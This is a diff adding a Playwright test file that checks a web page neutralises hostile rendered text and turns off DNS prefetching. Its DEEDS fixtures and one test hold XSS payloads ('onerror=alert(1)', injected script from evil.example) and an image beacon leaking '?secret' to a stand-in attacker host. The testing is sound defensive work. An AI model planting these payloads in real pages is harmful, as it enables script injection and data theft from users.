@@ -1,0 +1,59 @@
+"""Texts that try to run, to fetch and to lead away do nothing in the real page.
+
+A tenth of them; `python -m tests.soak hostile` shows them all. At every split point of a stream:
+`web/src/markdown/tests/hostile.test.tsx`.
+"""
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Playwright
+
+from tests.page.hostile import TEXTS, Pages, hostile_pages, in_conversations
+from tests.page.trap import trapped
+
+pytestmark = pytest.mark.browser
+
+DEEDS = {
+    "a script": "const s = document.createElement('script'); s.src = '//evil.example/x.js';"
+    "document.getElementById('root').append(s)",
+    "an image": "new Image().src = 'http://evil.example/p.png'",
+    "a call": "alert(1)",
+    "a handler": "document.querySelector('main').setAttribute('onclick', 'alert(1)')",
+    "markup": "document.querySelector('main').innerHTML = '<img src=x onerror=alert(1)>'",
+}
+
+
+@pytest.fixture(scope="module")
+def pages(playwright: Playwright) -> Iterator[Pages]:
+    with hostile_pages(playwright) as opened:
+        yield opened
+
+
+def test_hostile_texts_run_fetch_and_lead_nowhere(pages: Pages) -> None:
+    assert len(TEXTS) >= 300
+    for some in in_conversations(TEXTS[::10]):
+        assert pages.harm_of(some) == []
+
+
+@pytest.mark.parametrize("deed", DEEDS)
+def test_harm_would_be_seen(pages: Pages, deed: str) -> None:
+    watched = pages.open()
+    watched.page.evaluate(f"() => {{ {DEEDS[deed]} }}")
+    assert watched.look() != []
+    watched.close()
+
+
+def test_without_the_pages_policy_the_trap_would_hear_of_it(playwright: Playwright) -> None:
+    with trapped(playwright) as (browser, trap):
+        page = browser.new_page()
+        page.set_content("<img src='http://evil.example/p.png?secret'>")
+        page.wait_for_load_state("networkidle")
+        assert any("GET /p.png?secret" in caught for caught in trap.caught)
+
+
+def test_the_page_forbids_to_look_up_the_hosts_of_its_links(pages: Pages) -> None:
+    watched = pages.open()
+    meta = watched.page.locator("meta[http-equiv=x-dns-prefetch-control]")
+    assert meta.get_attribute("content") == "off"
+    watched.close()
